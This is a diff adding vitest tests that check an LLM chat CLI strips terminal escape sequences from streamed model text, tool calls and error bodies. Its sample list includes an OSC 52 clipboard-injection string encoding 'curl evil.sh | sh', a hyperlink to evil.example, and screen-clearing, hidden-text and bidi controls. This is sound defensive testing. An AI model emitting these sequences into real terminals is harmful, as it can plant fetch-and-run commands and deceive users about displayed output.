@@ -14,6 +14,9 @@ import fc from 'fast-check';
 import OpenAI from 'openai';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CliError } from '../../src/cli/cli-error.ts';
+import { LiveRenderer } from '../../src/cli/render.ts';
+import { styleFor } from '../../src/cli/style.ts';
+import { terminalText } from '../../src/cli/terminal-text.ts';
 import { parseServeArgs } from '../../src/cli/serve/serve-args.ts';
 import { startServe, type ServeHandle, type ServeOptions } from '../../src/cli/serve/server.ts';
 import { RequestGuard } from '../../src/gateway/request-guard.ts';
@@ -359,3 +362,91 @@ function rawRequest(port: number, text: string): Promise<number> {
     socket.end(Buffer.from(text, 'latin1'));
   });
 }
+
+describe('the terminal is not the model\'s to control: rxllm chat shows wire text, never obeys it', () => {
+  const hostile = [
+    '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', // OSC 52: write the clipboard
+    '\x1b]0;pwned\x1b\\', // OSC 0: window title (ST-terminated)
+    '\x1b[2J\x1b[H', // clear the screen, cursor home
+    '\x1b[8m', // hidden text
+    '\x1b[1A\x1b[2K', // move up, erase the line
+    '\x9b31m', // 8-bit CSI
+    '\x9d8;;http://evil.example\x9c', // 8-bit OSC 8 hyperlink
+    '\x1bP1$qm\x1b\\', // DCS
+    '\x1bc', // RIS: full reset
+    '\u202eevil\u202c', // bidi override
+    '\u2067isolate\u2069',
+    'a\rb', // carriage return rewrites the line
+    '\x00\x07\x08\x7f',
+  ];
+  /** What must never reach the terminal from the wire. */
+  const FORBIDDEN = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
+
+  it('terminalText removes escape sequences and controls, keeps printable text, newlines and tabs', () => {
+    expect(terminalText('plain text, ünïcödé 名 🙂\n\tindented')).toBe('plain text, ünïcödé 名 🙂\n\tindented');
+    expect(terminalText(`before${hostile.join('')}after`)).toBe('beforeevilisolateabafter');
+    expect(terminalText('line\r\nnext')).toBe('line\nnext');
+    // a sequence split across deltas cannot act: its introducer is gone, the rest is plain text
+    expect(terminalText('x\x1b]52;c;')).toBe('x');
+    expect(terminalText('Y3Vy\x07y')).toBe('Y3Vyy');
+    fc.assert(
+      fc.property(fc.string({ unit: fc.oneof(fc.constantFrom('\x1b', '\x9b', '\x9d', '\x07', '[', ']', ';', '\\', '\r', '\n', '\t', '\u202e', 'm', '2'), fc.string({ unit: 'binary', maxLength: 1 })) }), (s) => {
+        const out = terminalText(s);
+        expect(FORBIDDEN.test(out)).toBe(false);
+        expect(terminalText(out)).toBe(out);
+        // outside escape strings, newlines and tabs are kept
+        if (!/[\x1b\x90-\x9f]/.test(s)) expect(out).toBe(s.replace(/[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]/g, ''));
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('the live renderer cleans text, reasoning, tool names and arguments, and keeps its own styling', () => {
+    let out = '';
+    const renderer = new LiveRenderer({ write: (s: string) => (out += s) }, styleFor(true));
+    renderer.next({ type: 'reasoning', text: `think${hostile[0]}` });
+    renderer.next({ type: 'text', text: `Hello${hostile[2]}${hostile[3]} world` });
+    renderer.next({ type: 'tool-call-start', index: 0, id: 'a', name: `get${hostile[1]}_weather` });
+    renderer.next({ type: 'tool-call-delta', index: 0, argsText: `{"a":"${hostile[5]}x"}` });
+    renderer.next({ type: 'tool-call-end', index: 0 });
+    renderer.end();
+    expect(out).toBe('\x1b[2m[reasoning]\nthink\x1b[0m\n\n\x1b[2m[answer]\x1b[0m\nHello world\n\x1b[36m[tool call] get_weather\x1b[0m {"a":"x"}\n');
+  });
+
+  it('end to end: a stream and an error body full of escape sequences print none of them', async () => {
+    const events = [
+      { data: { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: { role: 'assistant', content: `Hi${hostile.join('')}!` }, finish_reason: null }] } },
+      { data: { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta: {}, finish_reason: `stop${hostile[0]}` }] } },
+      { data: '[DONE]' },
+    ];
+    const root = fileURLToPath(new URL('../..', import.meta.url));
+    const chat = (url: string) =>
+      new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve, reject) => {
+        const child = spawn(process.execPath, ['src/cli/main.ts', 'chat', '-p', 'openai', 'hi'], {
+          cwd: root,
+          env: { PATH: process.env.PATH, HOME: process.env.HOME, OPENAI_API_KEY: 'sk-x', OPENAI_BASE_URL: `${url}/v1` },
+          stdio: ['ignore', 'pipe', 'pipe'],
+        });
+        let stdout = '';
+        let stderr = '';
+        child.stdout.setEncoding('utf8').on('data', (s: string) => (stdout += s));
+        child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
+        child.on('error', reject);
+        child.on('close', (code) => resolve({ code, stdout, stderr }));
+      });
+    const streaming = await startReplayServer({ format: 'openai-chat', events });
+    const failing = await startReplayServer({ kind: 'json', status: 400, body: { error: { message: `bad${hostile.join('')}request`, type: 'invalid_request_error', code: `x${hostile[1]}` } } });
+    try {
+      const ok = await chat(streaming.url);
+      expect(ok.stdout).toContain('Hievilisolateab!');
+      expect(FORBIDDEN.test(ok.stdout.replaceAll('\n', ''))).toBe(false);
+      expect(FORBIDDEN.test(ok.stderr.replace(/\n/g, ''))).toBe(false);
+      const bad = await chat(failing.url);
+      expect(bad.code).toBe(1);
+      expect(bad.stderr).toContain('badevilisolateabrequest');
+      expect(FORBIDDEN.test(bad.stderr.replace(/\n/g, ''))).toBe(false);
+    } finally {
+      await Promise.all([streaming.close(), failing.close()]);
+    }
+  });
+});
